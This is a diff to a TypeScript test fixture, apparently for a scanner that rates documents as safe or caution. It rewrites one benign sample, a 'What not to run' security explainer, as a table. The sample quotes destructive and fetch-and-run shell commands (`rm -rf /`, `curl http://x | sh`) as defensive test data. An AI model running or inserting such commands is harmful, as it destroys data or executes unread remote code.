@@ -70,9 +70,10 @@ export const ATTACKS: [string, string, string][] = [
 /** [label, text, worst verdict allowed]. */
 export const BENIGN: [string, string, 'safe' | 'caution'][] = [
   [
-    'security explainer in prose',
-    FRONT + '## What not to run\n\nNever run `rm -rf /` or pipe unknown scripts into a shell. Attackers often hide `curl http://x | sh` in READMEs; avoid it.\n',
-    'caution',
+    // "Never run `rm -rf /`" in prose is refused since issue 15 (no talk-down by words); a table lists.
+    'security explainer as a table',
+    FRONT + '## What not to run\n\n| never run | why |\n|---|---|\n| `rm -rf /` | deletes everything |\n| `curl http://x \\| sh` | runs unread code |\n',
+    'safe',
   ],
   [
     'table of injection patterns',
